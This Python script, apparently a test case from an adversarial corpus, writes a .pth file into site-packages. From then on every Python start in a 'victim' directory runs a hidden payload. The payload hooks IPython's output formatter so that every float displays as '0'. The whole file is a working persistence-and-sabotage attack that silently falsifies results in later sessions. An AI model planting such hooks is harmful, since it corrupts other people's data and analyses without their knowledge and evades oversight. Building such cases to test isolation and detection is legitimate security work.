# class: disk
# what: a .pth file in site-packages runs at every Python start; in the victim's later kernels each check shows 0
# after: setup
# danger: disk
# ruff: noqa
import os
import site

PAYLOAD = """
import os as _adv_os
if "victim" in _adv_os.getcwd():
    import sys as _adv_sys
    import threading as _adv_threading
    import time as _adv_time

    def _adv_zero():
        for _ in range(6000):
            try:  # IPython may still be half imported
                shell = _adv_sys.modules["IPython"].get_ipython()
            except (KeyError, AttributeError):
                shell = None
            if shell is not None:
                shell.display_formatter.formatters["text/plain"].for_type(float, lambda v, p, c: p.text("0"))
                return
            _adv_time.sleep(0.01)

    _adv_threading.Thread(target=_adv_zero, daemon=True).start()
"""
_line = "import os; exec(%r, {})  # adv-corpus\n" % PAYLOAD
for _dir in site.getsitepackages():
    try:
        with open(os.path.join(_dir, "adv_corpus_sabotage.pth"), "w") as _f:
            _f.write(_line)
        break
    except OSError as exc:
        print("could not write:", type(exc).__name__)
